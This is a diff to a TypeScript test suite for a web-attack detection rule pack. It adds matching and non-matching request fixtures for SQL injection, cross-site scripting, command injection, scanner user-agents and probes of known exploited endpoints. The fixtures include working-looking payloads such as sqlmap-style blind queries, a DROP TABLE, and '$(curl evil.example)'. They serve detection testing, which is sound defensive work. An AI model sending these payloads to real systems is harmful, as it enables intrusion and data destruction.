@@ -27,11 +27,27 @@ const CASES: Record<string, { hits: RequestRecord[]; misses: RequestRecord[] }> 
       get("/login?user=admin'+or+'1'='1"),
       get('/p?id=1+union+all+select+null,null'),
       get('/list?sort=name%27%20AND%20SLEEP(5)--'),
+      // Boolean probes, column counting, stacked and blind queries (sqlmap's shapes).
+      get('/p?product=1188+OR+8516=8516--+'),
+      get('/p?product=1188)+AND+9966=9966+AND+(9973=9973'),
+      get('/p?product=1188"))+ORDER+BY+12--+'),
+      get('/p?product=1188)/**/ORDER/**/BY/**/9/*'),
+      get("/p?product=1188');+SELECT+user()%23"),
+      get('/p?product=1188"));+DROP+TABLE+orders--+'),
+      get("/p?product=1188'+AND+ASCII(SUBSTRING((SELECT+system_user()),7,1))>112--+"),
+      get("/p?product=1188')/**/OR/**/'2640'='2640"),
+      // Encoded twice, and every byte encoded: matched as the server decodes them.
+      get('/p?product=1188%2527%2520OR%2520%25271%2527%253D%25271'),
+      get('/p?product=%31%31%38%38%20%4F%52%44%45%52%20%42%59%20%33%2D%2D%2B'),
     ],
     misses: [
       get('/search?q=credit+union+select+account'),
       get('/blog/how-to-select-a-union-rep'),
       get("/search?q=o'reilly+books"),
+      get('/help?topic=order+by+date'),
+      get('/blog/10-ways-to-order-by-size'),
+      get('/search?q=size+10+or+12=fit'),
+      get('/search?q=rock+and+roll+1+and+2'),
     ],
   },
   'Cross-site scripting in a web request': {
@@ -40,6 +56,7 @@ const CASES: Record<string, { hits: RequestRecord[]; misses: RequestRecord[] }> 
       get('/p?x=%22%20onerror%3Dalert(1)'),
       get('/go?url=javascript:alert(document.cookie)'),
       get('/', { userAgent: '<script>alert(1)</script>' }),
+      get('/search?q=jacket%253Cinput%2520autofocus%2520onfocus%253Dalert(1)%253E'),
     ],
     misses: [
       get('/recaptcha/api.js?onload=onloadCallback&render=explicit'),
@@ -67,8 +84,20 @@ const CASES: Record<string, { hits: RequestRecord[]; misses: RequestRecord[] }> 
       get('/ping?host=8.8.8.8;cat%20/etc/hosts'),
       get('/cgi?x=%7C%20whoami'),
       get('/run?c=$(curl%20evil.example)'),
+      // A line break sent twice encoded, a lone & before a command, a command split by quotes.
+      get('/api/v1/stock?sku=1042-M%250Aid'),
+      get('/api/v1/stock?sku=1042-M%2526whoami'),
+      get("/api/v1/stock?sku=1042-M%2526%2526s''leep%25205"),
+      get("/api/v1/stock?sku=1042-M%253bl''s%2520-la"),
     ],
-    misses: [get('/search?q=dog|cat+food'), get('/api/items;jsessionid=abc123'), get('/products?sort=id')],
+    misses: [
+      get('/search?q=dog|cat+food'),
+      get('/api/items;jsessionid=abc123'),
+      get('/products?sort=id'),
+      get('/p?a=1&id=5'),
+      get('/p?a=1&ls=2'),
+      get("/guests?name=o''brien"),
+    ],
   },
   'Server-side template injection in a web request': {
     hits: [get('/hello?name={{7*7}}'), get('/hello?name=%7B%7B7*7%7D%7D'), get('/x?t=${7*7}')],
@@ -90,8 +119,21 @@ const CASES: Record<string, { hits: RequestRecord[]; misses: RequestRecord[] }> 
     hits: [
       get('/', { userAgent: 'sqlmap/1.8#stable (https://sqlmap.org)' }),
       get('/', { userAgent: 'Mozilla/5.0 (compatible; Nmap Scripting Engine)' }),
+      get('/', { userAgent: 'Hello, world' }),
     ],
-    misses: [get('/', { userAgent: BROWSER }), get('/', { userAgent: 'curl/8.5.0' })],
+    misses: [
+      get('/', { userAgent: BROWSER }),
+      get('/', { userAgent: 'curl/8.5.0' }),
+      get('/', { userAgent: 'Hello, world! (my home-made RSS reader)' }),
+    ],
+  },
+  'Probe for the endpoint of a widely exploited vulnerability': {
+    hits: [
+      get('/_ignition/execute-solution', { method: 'POST', responseCode: 404 }),
+      get('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'),
+      get('/+CSCOE+/logon.html'),
+    ],
+    misses: [get('/docs/hnap-protocol'), get('/solr/search?q=x'), get('/setup-guide.html')],
   },
   'Probe for configuration, secret or source-control files': {
     hits: [get('/.env'), get('/.git/config'), get('/blog/wp-config.php.bak')],
@@ -163,5 +205,12 @@ describe('the shipped rule pack', () => {
       title: 'Local file inclusion of system files or stream wrappers',
     });
     expect(hit?.value?.toLowerCase()).toContain('/etc/passwd');
+    // A payload sent twice encoded matches once decoded, and is shown in that spelling: the one
+    // the drawer's decoded request line has (not a slice of the logged text that holds no match).
+    const [encoded] = evaluateRecords(compiled, [
+      get('/p?product=1188%2527%2520OR%2520%25271%2527%253D%25271'),
+    ]);
+    expect(encoded).toMatchObject({ field: 'query', title: 'SQL injection in a web request' });
+    expect(encoded?.value).toBe('%27%20OR%20%271%27%3D');
   });
 });
